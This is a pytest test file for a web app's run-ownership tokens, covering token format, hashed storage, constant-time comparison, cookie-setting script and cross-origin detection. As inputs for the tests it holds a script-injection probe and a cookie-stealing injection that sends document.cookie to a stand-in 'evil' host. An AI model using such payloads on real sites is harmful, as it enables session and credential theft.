"""Run ownership: the browser's secret token, its hash stored with a run, and the comparison (issue 12)."""

import hmac

import pytest

from rnnviz import owner, runs
from rnnviz import config as cfg
from rnnviz.runs import RunStore

OLD_OWNER = "5f0c1e2d3b4a6978"  # what runs stored before tokens: 16 hex digits of the XSRF cookie's second


def test_a_new_token_is_a_256_bit_secret_nobody_else_gets():
    tokens = {owner.new_token() for _ in range(1000)}
    assert len(tokens) == 1000
    assert all(owner.is_token(token) and len(token) == 43 for token in tokens)  # 32 bytes, base64url


@pytest.mark.parametrize("value", [
    None, 42, b"x" * 43, "", "a" * 42, "a" * 44, "a" * 42 + "!", "a" * 42 + "=", " " + "a" * 42,
    "2|00000000|x|1795976772",  # Streamlit's XSRF cookie, the old owner's source
    OLD_OWNER, "0" * 64,  # a stored owner sent back as the cookie
    "a" * 20 + "'; alert(1); '" + "a" * 9,  # script text where the token goes
    "a" * 42 + "\n",
])
def test_anything_but_a_token_is_not_a_token(value):
    assert not owner.is_token(value)


def test_a_run_stores_a_hash_that_is_no_token():
    token = owner.new_token()
    stored = owner.owner_hash(token)
    assert stored == owner.owner_hash(token) and len(stored) == 64 and int(stored, 16) >= 0
    assert token not in stored and not owner.is_token(stored)  # the runs folder never holds a usable token
    assert stored != owner.owner_hash(owner.new_token())


def test_owners_are_compared_in_constant_time(monkeypatch):
    calls, compare = [], hmac.compare_digest

    def spy(a, b):
        calls.append((a, b))
        return compare(a, b)

    monkeypatch.setattr(owner.hmac, "compare_digest", spy)
    mine = owner.owner_hash(owner.new_token())
    assert owner.same_owner(mine, mine) and not owner.same_owner(mine, owner.owner_hash(owner.new_token()))
    assert len(calls) == 2


@pytest.mark.parametrize("stored", [None, 7, ["x"], {"a": 1}, OLD_OWNER, "유령", ""])
def test_a_damaged_or_old_owner_belongs_to_no_token(stored):
    assert not owner.same_owner(stored, owner.owner_hash(owner.new_token()))


def test_only_the_tokens_hash_may_change_a_run(tmp_path):
    store = RunStore(tmp_path)
    token = owner.new_token()
    config = cfg.quick(cfg.PRESETS["lstm"])
    mine = store.get(store.create(config, owner=owner.owner_hash(token)))
    assert store.read_status(mine.id)["owner"] == owner.owner_hash(token)  # the hash, never the token
    assert token not in (mine.path / runs.STATUS_FILE).read_text()
    assert mine.owned_by(owner.owner_hash(token)) and mine.changeable_by(owner.owner_hash(token))
    other = owner.owner_hash(owner.new_token())
    assert not mine.owned_by(other) and not mine.changeable_by(other)
    assert not mine.changeable_by(token)  # the token itself is not the owner: only its hash is
    old = store.get(store.create(config, owner=OLD_OWNER))  # launched before tokens: nobody's now
    assert not old.changeable_by(owner.owner_hash(token))
    cli = store.get(store.create(config))  # made from the command line: anyone's, nobody's own
    assert cli.changeable_by(other) and not cli.owned_by(other)


def test_the_cookie_script_keeps_the_token_a_year_for_this_site_only():
    token = owner.new_token()
    script = owner.cookie_script(token)
    https, http = script.split("} else {")
    assert "location.protocol === 'https:'" in https
    # over https: the __Host- cookie, which a browser keeps for this exact host only (Secure, path=/, no Domain)
    assert f"'{owner.HOST_COOKIE}={token}; max-age=31536000; path=/; SameSite=Strict; Secure'" in https
    assert f"'{owner.COOKIE}=; max-age=0; path=/" in https  # the plain cookie of before goes
    assert f"'{owner.COOKIE}={token}; max-age=31536000; path=/; SameSite=Strict'" in http
    assert "domain" not in script.lower() and owner.HOST_COOKIE == "__Host-rnnviz_owner"
    with pytest.raises(ValueError):
        owner.cookie_script("x'; document.location='http://evil/?' + document.cookie; '")


def test_the_host_cookie_is_read_first_and_the_plain_cookie_of_before_still_owns_its_runs():
    kept, older = owner.new_token(), owner.new_token()
    assert owner.browser_token({owner.COOKIE: older}) == older  # http, or set before __Host- existed
    assert owner.browser_token({owner.HOST_COOKIE: kept, owner.COOKIE: older}) == kept
    assert owner.browser_token({owner.HOST_COOKIE: "forged!", owner.COOKIE: older}) == older
    assert owner.browser_token({owner.COOKIE: "2|00000000|x|1795976772"}) is None and owner.browser_token({}) is None
    assert owner.cookie_name("https://school.example") == owner.HOST_COOKIE
    assert owner.cookie_name("http://school.example:8501") == owner.cookie_name(None) == owner.COOKIE


@pytest.mark.parametrize(("origin", "host", "foreign"), [
    ("http://school.example:8000", "school.example:8501", True),  # another port of the app's host
    ("http://127.0.0.1:8000", "127.0.0.1:8501", True),
    ("https://school.example:8443", "school.example", True),
    ("http://school.example:8501", "school.example:8501", False),  # the app's own page
    ("https://School.Example", "school.example", False),
    ("https://rnnviz.example", "127.0.0.1:8501", False),  # a proxy that rewrites Host: Streamlit's check decides
    (None, "school.example:8501", False),  # no browser page (no Origin): nothing to compare
])
def test_a_session_opened_by_a_page_on_another_port_of_the_host_is_told_apart(origin, host, foreign):
    assert owner.from_another_origin(origin, host) is foreign
